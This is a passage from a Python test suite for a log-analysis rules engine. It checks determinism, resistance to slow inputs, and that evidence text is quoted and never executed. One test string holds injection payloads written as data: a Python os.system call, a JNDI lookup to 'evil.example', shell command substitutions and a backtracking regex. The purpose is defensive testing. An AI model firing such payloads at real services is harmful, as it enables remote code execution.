    assert result.summary.endswith("severity raised: 3 services affected")


def test_empty_evidence() -> None:
    result = analyze()
    assert (result.error_type, result.known, result.severity, result.notify) == (
        "Unknown",
        False,
        "informational",
        False,
    )
    assert result.confidence == 0 and result.evidence == [] and result.records == 0


# --- determinism, safety, speed -------------------------------------------------------------------


def mixed_items() -> list[EvidenceItem]:
    # Equal counts across patterns and services, so that only a total order decides ties.
    messages = [c[0] for c in CASES[::3]] + NEAR_MISSES
    return [item(m, f"svc-{i % 4}", count=25) for i, m in enumerate(messages)]


def test_same_evidence_same_analysis_whatever_the_order() -> None:
    items = mixed_items()
    first = analyze(*items).model_dump()
    assert analyze(*items).model_dump() == first
    assert RulesEngine().analyze_sync(evidence(*items)).model_dump() == first
    rng = random.Random(7)
    for _ in range(5):
        shuffled = items[:]
        rng.shuffle(shuffled)
        assert analyze(*shuffled).model_dump() == first


HOSTILE = (
    "Deadlock found when trying to get lock; {__import__('os').system('touch PWNED')} %(secret)s {0} "
    "${jndi:ldap://evil.example/a} $(touch PWNED) `touch PWNED` ((a+)+)+$ [unclosed"
)


def test_evidence_text_is_quoted_never_executed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)

    def forbidden(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError(f"evidence must not be executed or compiled: {args!r}")

    for module, name in [
        (builtins, "eval"),
        (builtins, "exec"),
        (builtins, "compile"),
        (os, "system"),
        (subprocess, "run"),
        (subprocess, "Popen"),
        (re, "compile"),
        (re, "search"),
        (re, "match"),
    ]:
        monkeypatch.setattr(module, name, forbidden)

    known = item(HOSTILE, "orders", template=HOSTILE, samples=[HOSTILE])
    unknown = item(
        HOSTILE.replace("Deadlock found", "Weird"),
        "orders",
        template=HOSTILE.replace("Deadlock found", "Weird"),
    )
    known_result = ENGINE.analyze_sync(evidence(known))
    unknown_result = ENGINE.analyze_sync(evidence(unknown))
    monkeypatch.undo()

    assert known_result.error_type == "DatabaseDeadlock"
    assert known_result.evidence[0].template == HOSTILE
    assert unknown_result.error_type == "Unknown"
    assert unknown_result.evidence[0].template == unknown.template
    # Quoted verbatim (placeholders, quotes and all), only shortened to the quote length.
    assert f'"{unknown.template[:100]}' in unknown_result.summary
    assert not (tmp_path / "PWNED").exists()


def test_hostile_long_samples_are_cheap() -> None:
    nasty = [
        "a" * 200_000,
        "status " * 40_000,
        "CircuitBreaker " + "x" * 200_000,
        "lag " + " " * 100_000 + "exceeds",
        "timeout " * 30_000,
        "\u0130" * 50_000 + " connection refused",
    ]
    start = time.perf_counter()
    results = [analyze(item("worker failed", template="worker failed", samples=[text])) for text in nasty]
    assert time.perf_counter() - start < 1.0
    assert [r.error_type for r in results[:5]] == ["Unknown"] * 5
    # Past the searched prefix of a long sample nothing is looked at; within it, non-ASCII text
    # (whose lower case is longer) still finds and locates the phrase.
    assert results[5].error_type == "Unknown"
    short = analyze(
        item("worker failed", template="worker failed", samples=["\u0130" * 50 + " connection refused"])
    )
    assert short.error_type == "ConnectionRefused"
    assert short.evidence[0].reason.endswith("in the sample 1")


def test_a_batch_of_thousands_of_items_is_analysed_whole() -> None:
    """Throughput belongs in benchmarks: here, only that a large batch is analysed, not cut short."""
    trace = "\n".join(f"\tat com.shop.orders.Service{n}.handle(Service{n}.java:{n + 10})" for n in range(12))
    items = []
    for n in range(3000):
        message, _, _ = CASES[n % len(CASES)] if n % 2 else (NEAR_MISSES[n % len(NEAR_MISSES)], "", True)
        items.append(
            item(
                f"{message} #{n}",
                f"svc-{n % 7}",
                count=n + 1,
                samples=[f"{message} #{n}.{k}\n{trace}" for k in range(3)],
            )
        )
    batch = evidence(*items)
    result = ENGINE.analyze_sync(batch)
    assert result.records == batch.records and result.evidence
